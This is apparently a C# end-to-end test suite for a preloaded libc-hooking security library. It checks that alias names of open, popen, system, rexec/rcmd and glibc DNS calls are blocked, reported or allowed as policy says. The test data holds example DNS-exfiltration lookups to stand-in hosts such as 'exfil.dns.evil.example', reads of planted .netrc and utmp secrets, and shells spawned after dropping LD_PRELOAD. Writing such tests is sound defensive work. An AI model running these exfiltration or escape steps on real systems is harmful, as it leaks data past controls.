namespace IronFunction.Tests.EndToEnd;

// End-to-end tests of the same functions under their other exported names (Hooks/libc.aliases), and of the libc
// functions that open a file or resolve and connect through glibc's internal calls, judged at their own entry
// (SPEC §2, §4, §7). One C probe, probes/alias_probe.c, calls each by its name, linked directly (no dlsym), in
// one process; each call's line is compared with the same call without the library, and the disk, the child
// processes and the namespace's servers show what really happened.

public static class AliasProbe
{
    private static readonly string SourcePath =
        Path.Combine(Machine.RepoRoot, "tests", "IronFunction.Tests", "EndToEnd", "probes", "alias_probe.c");

    public static readonly Lazy<string> Exe = new(() => CProbe.Compile("alias_probe", File.ReadAllText(SourcePath)));

    public static string Policy(string files, string process = "allow") =>
        $$"""{"read_write_tmp":"{{files}}","create_child_process":"{{process}}"}""";

    /// <summary>The probe's line for a command.</summary>
    public static string Line(RunResult run, string command)
    {
        var prefix = command + " => ";
        var line = run.Stdout.Split('\n').FirstOrDefault(l => l.StartsWith(prefix, StringComparison.Ordinal));
        Assert.True(line != null, $"no line for \"{command}\":\n{run}");
        return line![prefix.Length..];
    }

    /// <summary>The events of one control, one entry per occurrence: "action what".</summary>
    public static string[] Events(RunResult run, string control) => run.Events
        .Where(e => e.Str("event_type") == control)
        .SelectMany(e => Enumerable.Repeat($"{e.Str("action")} {e.Str("what")}", e.Occurrences())).ToArray();
}

/// <summary>read_write_tmp through other names and through functions that open inside libc.</summary>
public sealed class AliasFileProbeTests : IDisposable
{
    private readonly Sandbox box = new();
    private string T(string name) => Path.Combine(box.TmpDir, name);

    /// <summary>Command, the path its event names, and whether it creates that path (else it reads it).</summary>
    private (string Command, string What, bool Creates)[] Cases() =>
    [
        ($"__open {T("open")}", T("open"), true),
        ($"__open64 {T("open64")}", T("open64"), true),
        ($"_IO_fopen {T("fopen")}", T("fopen"), true),
        ($"__xmknod {T("fifo")}", T("fifo"), true),
        ($"__xmknodat {T("fifoat")}", T("fifoat"), true),
        ($"mntent {T("mtab")}", T("mtab"), true),
        ($"__open_nocancel {T("secret")}", T("secret"), false),
        ($"__nss_files_fopen {T("secret")}", T("secret"), false),
        ($"utmp {T("utmp")}", T("utmp"), false),
        ($"utmpx {T("utmpx")}", T("utmpx"), false),
        ($"updwtmp {T("wtmp")}", T("wtmp"), false),
        ($"updwtmpx {T("wtmp")}", T("wtmp"), false),
        ($"catopen {T("catalog")}", T("catalog"), false),
        ($"nlspath {box.TmpDir}/%N catalog", T("catalog"), false),
        ($"ruserpass {box.TmpDir}", T(".netrc"), false),
        ($"_IO_file_fopen {T("iofopen")}", T("iofopen"), true),
        ($"_IO_file_open {T("ioopen")}", T("ioopen"), true),
        ($"open_catalog {T("catalog")}", T("catalog"), false),
    ];

    /// <summary>The names of Hooks/files.symbols this class calls (the rest are tmp_probe's: TmpCProbeTests).</summary>
    public static readonly string[] Exercised =
    [
        "__xmknod", "__xmknodat", "__open_nocancel", "setmntent", "__nss_files_fopen", "_IO_file_fopen", "_IO_file_open", "catopen",
        "__open_catalog", "ruserpass", "utmpname", "utmpxname", "updwtmp", "updwtmpx", "setutent", "setutxent", "getutent", "getutxent",
        "getutid", "getutxid", "getutline", "getutxline", "pututline", "pututxline", "getutent_r", "getutid_r", "getutline_r",
    ];

    /// <summary>utmp_all: each opener, after a name that utmpname judged from another working directory.</summary>
    private string[] UtmpAll(RunResult run) =>
        run.Stdout.Split('\n').Where(l => l.StartsWith("utmp_all", StringComparison.Ordinal)).ToArray();

    private string UtmpRelative => "../tmp/" + Path.GetFileName(box.TmpDir) + "/utmp";

    [Fact]
    public void Every_utmp_opener_judges_the_name_where_it_opens_the_file()
    {
        Fixtures();
        var original = File.ReadAllBytes(T("utmp"));
        var args = new[] { $"utmp_all {UtmpRelative}" };
        var env = new Dictionary<string, string?> { ["TMPDIR"] = null };
        var block = Preloaded.Run(AliasProbe.Exe.Value, args, box.Policy(AliasProbe.Policy("block")), env);
        var lines = UtmpAll(block);
        Assert.Equal(13, lines.Length);
        Assert.Equal($"utmp_all {UtmpRelative} => result=0", lines[0]);
        Assert.All(lines.Skip(1), l => Assert.EndsWith("errno=13", l));
        Assert.All(lines.Skip(1), l => Assert.DoesNotContain("ptr", l));
        Assert.Contains($"block {T("utmp")}", AliasProbe.Events(block, "read_write_tmp"));
        Assert.All(AliasProbe.Events(block, "read_write_tmp"), e => Assert.StartsWith("block ", e));

        Assert.Equal(original, File.ReadAllBytes(T("utmp")));  // pututline wrote nothing
        var plain = Preloaded.RunPlain(AliasProbe.Exe.Value, args, env);
        File.WriteAllBytes(T("utmp"), original);
        var alert = Preloaded.Run(AliasProbe.Exe.Value, args, box.Policy(AliasProbe.Policy("alert")), env);
        Assert.Equal(UtmpAll(plain), UtmpAll(alert));
        Assert.Contains("got=utmp-secret", string.Join('\n', UtmpAll(alert)));
        Assert.Contains($"alert {T("utmp")}", AliasProbe.Events(alert, "read_write_tmp"));
    }

    private void Fixtures()
    {
        File.WriteAllText(T("secret"), "tmp-secret\n");
        File.WriteAllText(T("wtmp"), "");
        File.WriteAllText(T(".netrc"), "machine netrc.example login netrc-secret password p\n");
        File.SetUnixFileMode(T(".netrc"), UnixFileMode.UserRead | UnixFileMode.UserWrite);
        Assert.Equal("result=0 errno=0", AliasProbe.Line(Preloaded.RunPlain(AliasProbe.Exe.Value, [$"write_utmp {T("utmp")} utmp-secret"]), $"write_utmp {T("utmp")} utmp-secret"));
        File.Copy(T("utmp"), T("utmpx"));
        var msg = Path.Combine(box.Dir, "catalog.msg");
        File.WriteAllText(msg, "$set 1\n1 catalog-secret\n");
        var gencat = Preloaded.RunPlain("gencat", [T("catalog"), msg]);
        Assert.True(gencat.ExitCode == 0, gencat.ToString());
    }

    private RunResult Run(string? policy, bool preload = true)
    {
        var args = Cases().Select(c => c.Command).ToArray();
        var env = new Dictionary<string, string?> { ["TMPDIR"] = null, ["LANG"] = null, ["NLSPATH"] = null };
        return preload ? Preloaded.Run(AliasProbe.Exe.Value, args, box.Policy(policy!), env, cwd: box.Dir)
                       : Preloaded.RunPlain(AliasProbe.Exe.Value, args, env, cwd: box.Dir);
    }

    private void Clean()
    {
        foreach (var c in Cases().Where(c => c.Creates)) File.Delete(c.What);
        File.WriteAllText(T("wtmp"), "");
    }

    [Fact]
    public void Block_denies_each_with_EACCES_and_an_event_and_nothing_is_created_read_or_appended()
    {
        Fixtures();
        var run = Run(AliasProbe.Policy("block"));
        Assert.True(run.ExitCode == 0, run.ToString());
        var failures = new List<string>();
        foreach (var (command, _, creates) in Cases())
        {
            var line = AliasProbe.Line(run, command);
            if (!line.Contains("errno=13") || line.Contains("secret") || line.StartsWith("result=ptr") || line.StartsWith("result=0 errno=0"))
                failures.Add($"{command}: {line}");
        }
        Assert.True(failures.Count == 0, string.Join('\n', failures) + "\n" + run);
        foreach (var c in Cases().Where(c => c.Creates)) Assert.False(Path.Exists(c.What), $"{c.What} was created\n{run}");
        Assert.Equal(0, new FileInfo(T("wtmp")).Length);
        var events = AliasProbe.Events(run, "read_write_tmp");
        foreach (var c in Cases()) Assert.Contains($"block {c.What}", events);
        Assert.All(events, e => Assert.StartsWith("block ", e));
    }

    [Fact]
    public void Alert_lets_each_through_as_without_the_library_and_reports_it()
    {
        Fixtures();
        var plain = Run(null, preload: false);
        Clean();
        var alert = Run(AliasProbe.Policy("alert"));
        foreach (var (command, _, _) in Cases()) Assert.Equal(AliasProbe.Line(plain, command), AliasProbe.Line(alert, command));
        // the reads really read: the probe printed what the files hold
        Assert.Contains("content=tmp-secret", AliasProbe.Line(alert, $"__open_nocancel {T("secret")}"));
        Assert.Contains("entry=utmp-secret", AliasProbe.Line(alert, $"utmp {T("utmp")}"));
        Assert.Contains("message=catalog-secret", AliasProbe.Line(alert, $"catopen {T("catalog")}"));
        Assert.Contains("login=netrc-secret", AliasProbe.Line(alert, $"ruserpass {box.TmpDir}"));
        foreach (var c in Cases().Where(c => c.Creates)) Assert.True(Path.Exists(c.What), $"{c.What} was not created\n{alert}");
        Assert.True(new FileInfo(T("wtmp")).Length > 0, "updwtmp appended nothing");
        var events = AliasProbe.Events(alert, "read_write_tmp");
        foreach (var c in Cases()) Assert.Contains($"alert {c.What}", events);
        Assert.All(events, e => Assert.StartsWith("alert ", e));
    }

    [Fact]
    public void Allow_is_silent_and_the_same_as_without_the_library()
    {
        Fixtures();
        var plain = Run(null, preload: false);
        Clean();
        var allow = Run(AliasProbe.Policy("allow"));
        foreach (var (command, _, _) in Cases()) Assert.Equal(AliasProbe.Line(plain, command), AliasProbe.Line(allow, command));
        Assert.Empty(allow.Events);
        Assert.Equal(plain.Stderr, allow.Stderr);
    }

    [Fact]
    public void A_utmp_name_is_judged_again_where_the_file_is_opened()
    {
        // "../tmp/..." names /var/tmp/... from /var/lib, where utmpname judges it, and the /tmp file once the
        // working directory is /var: getutent opens it there
        Fixtures();
        var relative = "../tmp/" + Path.GetFileName(box.TmpDir) + "/utmp";
        var script = $"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nos.chdir('/var/lib')\n" +
                     $"print('named', libc.utmpname(b'{relative}'))\nos.chdir('/var')\nlibc.getutent.restype = ctypes.c_void_p\n" +
                     "e = libc.getutent()\nprint('entry', 'NULL' if not e else ctypes.string_at(e + 44, 32).split(b'\\0')[0].decode(), ctypes.get_errno())\n";
        var run = Preloaded.Run(Machine.Python.Value, ["-c", script], box.Policy(AliasProbe.Policy("block")), new Dictionary<string, string?> { ["TMPDIR"] = null });
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("named 0", run.Stdout);
        Assert.Contains("entry NULL 13", run.Stdout);
        Assert.Contains($"block {T("utmp")}", AliasProbe.Events(run, "read_write_tmp"));
    }

    public void Dispose() => box.Dispose();
}

/// <summary>create_child_process through popen's and system's other names and popen's engine, after the caller dropped LD_PRELOAD.</summary>
public sealed class AliasProcessProbeTests : IDisposable
{
    private readonly Sandbox box = new();

    private string[] Commands(string marker) =>
        [$"_IO_popen echo \"popen:$LD_PRELOAD\" >> {marker}", $"__libc_system echo \"system:$LD_PRELOAD\" >> {marker}",
         $"_IO_proc_open echo \"proc_open:$LD_PRELOAD\" >> {marker}"];

    private RunResult Run(string action, string marker) =>
        Preloaded.Run(AliasProbe.Exe.Value, Commands(marker), box.Policy(AliasProbe.Policy("allow", action)));

    [Fact]
    public void Block_starts_no_shell_and_reports_each()
    {
        var marker = Path.Combine(box.Dir, "marker");
        var run = Run("block", marker);
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("result=NULL errno=1", AliasProbe.Line(run, Commands(marker)[0]));
        Assert.StartsWith("result=-1 ", AliasProbe.Line(run, Commands(marker)[1]));
        Assert.Equal("result=NULL errno=1", AliasProbe.Line(run, Commands(marker)[2]));
        Assert.False(File.Exists(marker), $"a shell ran\n{run}");
        var events = AliasProbe.Events(run, "create_child_process");
        Assert.Equal(3, events.Length);
        Assert.All(events, e => Assert.StartsWith("block /bin/sh -c ", e));
    }

    [Fact]
    public void Alert_starts_each_shell_still_protected_and_reports_it()
    {
        var marker = Path.Combine(box.Dir, "marker");
        var run = Run("alert", marker);
        Assert.Equal("result=ptr errno=0 status=0", AliasProbe.Line(run, Commands(marker)[0]));
        Assert.Equal("result=0 errno=0", AliasProbe.Line(run, Commands(marker)[1]));
        Assert.Equal("result=ptr errno=0 status=0", AliasProbe.Line(run, Commands(marker)[2]));
        // the children kept the library although the caller had removed it from its environment
        Assert.Equal([$"popen:{Machine.Library}", $"system:{Machine.Library}", $"proc_open:{Machine.Library}"], File.ReadAllLines(marker));
        var events = AliasProbe.Events(run, "create_child_process");
        Assert.Equal(3, events.Length);
        Assert.All(events, e => Assert.StartsWith("alert /bin/sh -c ", e));
    }

    [Fact]
    public void Allow_is_silent_and_the_same_as_without_the_library()
    {
        var marker = Path.Combine(box.Dir, "marker");
        var plain = Preloaded.RunPlain(AliasProbe.Exe.Value, Commands(marker));
        var withoutLines = File.ReadAllLines(marker);
        File.Delete(marker);
        var allow = Run("allow", marker);
        foreach (var c in Commands(marker)) Assert.Equal(AliasProbe.Line(plain, c), AliasProbe.Line(allow, c));
        Assert.Equal(withoutLines, File.ReadAllLines(marker));
        Assert.Empty(allow.Events);
    }

    public void Dispose() => box.Dispose();
}

/// <summary>outbound_connectivity through __sendmmsg, the r* commands and glibc's DNS back end, in the test's own namespace.</summary>
public class AliasNetworkProbeTests
{
    /// <summary>Command, and the "what" of the event block mode reports (null: allowed).</summary>
    public static readonly (string Command, string? Event)[] Cases =
    [
        ("__sendmmsg 203.0.113.7 9999", "203.0.113.7:9999"),
        ("__sendmmsg 203.0.113.77 9999", null),
        ("rexec 203.0.113.7 7070", "203.0.113.7:7070"),
        ("rexec_af 203.0.113.7 7070", "203.0.113.7:7070"),
        ("rcmd 203.0.113.7 7070", "203.0.113.7:7070"),
        ("rcmd_af 203.0.113.7 7070", "203.0.113.7:7070"),
        ("rexec_af evil.example 7070", "evil.example"),
        ("rcmd_af evil.example 7070", "evil.example"),
        ("rexec_af 203.0.113.77 7070", null),
        ("rcmd_af mail.yahoo.com 7070", null),
        ("ruserok exfil.dns.evil.example", "exfil.dns.evil.example"),
        ("ruserok_af secret-0123456789.evil.example", "secret-0123456789.evil.example"),
        ("nss_dns4 exfil.dns.evil.example", "exfil.dns.evil.example"),
        ("res_context_query exfil.dns.evil.example", "exfil.dns.evil.example"),
        ("res_context_send secret-0123456789.evil.example", "secret-0123456789.evil.example"),
        ("clnttcp 203.0.113.7 7070", "203.0.113.7:7070"),
        ("clnttcp 203.0.113.77 7070", null),
        ("clnt_create evil.example", "evil.example"),
    ];

    /// <summary>
    /// The line, with the errno of an r* command that reached the server left out unless it is EPERM: the greeting
    /// server hangs up at once, and whether rexec then sees EPIPE or ENOENT depends on timing.
    /// </summary>
    private static string Line(NamespaceRun run, string command)
    {
        var line = run.Line(command);
        return command.StartsWith('r') && !System.Text.RegularExpressions.Regex.IsMatch(line, @"errno=1\b") ? System.Text.RegularExpressions.Regex.Replace(line, @"errno=\d+", "errno=*") : line;
    }

    private static NamespaceRun Probe(Sandbox box, string? policy, bool preload = true) =>
        NetNamespace.Run(box, policy, AliasProbe.Exe.Value, Cases.Select(c => c.Command), preload);

    private static HashSet<string> Arrived(NamespaceRun run) =>
        run.ServerLog.Where(l => l.StartsWith("tcp ") || l.StartsWith("udp ")).ToHashSet();

    [NamespaceFact]
    public void Block_denies_what_no_exception_allows_before_anything_leaves()
    {
        using var box = new Sandbox();
        var plain = Probe(box, null, preload: false);
        var block = Probe(box, NetNamespace.BlockPolicy);
        Assert.True(block.Result.ExitCode == 0, block.ToString());
        var failures = new List<string>();
        foreach (var (command, @event) in Cases)
        {
            var line = Line(block, command);
            if (@event == null ? line != Line(plain, command) : !System.Text.RegularExpressions.Regex.IsMatch(line, @"^result=(-1|NULL) errno=1\b"))
                failures.Add($"{command}: {line} (without the library: {Line(plain, command)})");
        }
        Assert.True(failures.Count == 0, string.Join('\n', failures) + "\n" + block);
        NetNamespace.EventsHaveSeedSchema(block);
        NetNamespace.SameEvents(Cases.Where(c => c.Event != null).Select(c => c.Event!).Distinct(), block.Events("block").Distinct(), block);
        // without the library each of these reached the servers; with it nothing arrived at 203.0.113.7 and no denied name was queried
        Assert.Contains(plain.ServerLog, l => l.StartsWith("tcp 203.0.113.7 7070"));
        Assert.Contains(plain.ServerLog, l => l.StartsWith("udp ") && l.Contains("alias-mmsg"));
        Assert.Contains("exfil.dns.evil.example", plain.DnsQueries);
        Assert.DoesNotContain(block.ServerLog, l => l.StartsWith("tcp 203.0.113.7 "));
        Assert.Contains(block.ServerLog, l => l.StartsWith("tcp 203.0.113.77 7070"));
        Assert.Empty(block.DnsQueries.Where(q => q.Contains("evil")));
    }

    [NamespaceFact]
    public void Alert_lets_each_through_as_without_the_library_and_reports_it()
    {
        using var box = new Sandbox();
        var plain = Probe(box, null, preload: false);
        var alert = Probe(box, NetNamespace.AlertPolicy);
        foreach (var (command, _) in Cases) Assert.Equal(Line(plain, command), Line(alert, command));
        Assert.Equal(Arrived(plain), Arrived(alert));
        Assert.Contains("exfil.dns.evil.example", alert.DnsQueries);
        NetNamespace.EventsHaveSeedSchema(alert);
        Assert.All(alert.Result.Events, e => Assert.Equal("alert", e.Str("action")));
        NetNamespace.SameEvents(Cases.Where(c => c.Event != null).Select(c => c.Event!).Distinct(), alert.Events().Distinct(), alert);
    }

    [NamespaceFact]
    public void Allow_is_silent_and_the_same_as_without_the_library()
    {
        using var box = new Sandbox();
        var plain = Probe(box, null, preload: false);
        var allow = Probe(box, NetNamespace.Policy("allow"));
        foreach (var (command, _) in Cases) Assert.Equal(Line(plain, command), Line(allow, command));
        Assert.Equal(Arrived(plain), Arrived(allow));
        Assert.Empty(allow.Result.Events);
    }
}

/// <summary>
/// The same names from Python's ctypes. CDLL(None) looks them up in the process's global scope, where the
/// preloaded library comes first; CDLL("libc.so.6") would ask libc's own handle (dlsym's judgement, not this one's).
/// </summary>
public sealed class AliasPythonTests : IDisposable
{
    private readonly Sandbox box = new();

    private string Script() => $$"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        d = "{{box.TmpDir}}"
        def show(name, result):
            print(name, "ok" if result not in (None, -1) else "denied", ctypes.get_errno(), flush=True)
            ctypes.set_errno(0)
        libc._IO_fopen.restype = ctypes.c_void_p
        libc.setmntent.restype = ctypes.c_void_p
        libc._IO_popen.restype = ctypes.c_void_p
        show("__open", libc.__open(f"{d}/open".encode(), os.O_CREAT | os.O_WRONLY, 0o600))
        show("_IO_fopen", libc._IO_fopen(f"{d}/fopen".encode(), b"w"))
        show("__xmknod", libc.__xmknod(0, f"{d}/fifo".encode(), 0o10600, ctypes.byref(ctypes.c_ulong(0))))
        show("setmntent", libc.setmntent(f"{d}/mtab".encode(), b"a"))
        os.environ.pop("LD_PRELOAD", None)
        show("__libc_system", libc.__libc_system(f"echo $LD_PRELOAD > {d}/system".encode()))
        """;

    private RunResult Run(string action) =>
        Preloaded.Run(Machine.Python.Value, ["-c", Script()], box.Policy(AliasProbe.Policy(action, action)),
            new Dictionary<string, string?> { ["TMPDIR"] = null });

    private string[] Created => ["open", "fopen", "fifo", "mtab", "system"];

    [Fact]
    public void Block_denies_each_name_from_ctypes()
    {
        var run = Run("block");
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(["__open denied 13", "_IO_fopen denied 13", "__xmknod denied 13", "setmntent denied 13", "__libc_system denied 1"],
            run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        foreach (var f in Created) Assert.False(Path.Exists(Path.Combine(box.TmpDir, f)), $"{f} was created\n{run}");
        Assert.Equal(4, AliasProbe.Events(run, "read_write_tmp").Length);
        Assert.Single(AliasProbe.Events(run, "create_child_process"));
    }

    [Fact]
    public void Alert_lets_each_through_reports_it_and_the_shell_keeps_the_library()
    {
        var run = Run("alert");
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.All(run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => Assert.Contains(" ok ", l));
        foreach (var f in Created) Assert.True(Path.Exists(Path.Combine(box.TmpDir, f)), $"{f} was not created\n{run}");
        Assert.Equal(Machine.Library, File.ReadAllText(Path.Combine(box.TmpDir, "system")).Trim());
        Assert.All(AliasProbe.Events(run, "read_write_tmp"), e => Assert.StartsWith("alert ", e));
        Assert.Contains($"alert {box.TmpDir}/fifo", AliasProbe.Events(run, "read_write_tmp"));
        Assert.Single(AliasProbe.Events(run, "create_child_process"));
    }

    [Fact]
    public void Allow_is_silent()
    {
        var run = Run("allow");
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.All(run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => Assert.Contains(" ok ", l));
        foreach (var f in Created) Assert.True(Path.Exists(Path.Combine(box.TmpDir, f)), $"{f} was not created\n{run}");
        Assert.Empty(run.Events);
    }

    public void Dispose() => box.Dispose();
}
